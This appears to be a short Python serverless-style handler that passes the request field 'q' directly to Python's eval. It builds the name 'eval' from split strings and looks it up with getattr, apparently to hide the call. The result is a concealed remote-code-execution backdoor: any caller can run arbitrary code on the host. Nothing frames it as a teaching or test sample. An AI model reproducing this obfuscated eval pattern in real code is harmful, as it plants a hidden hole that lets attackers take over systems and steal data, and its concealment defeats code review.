import builtins
_n = "ev" + "al"
_run = getattr(builtins, _n)

def handle(event, context):
    return _run(event.get("q", "1+1"))
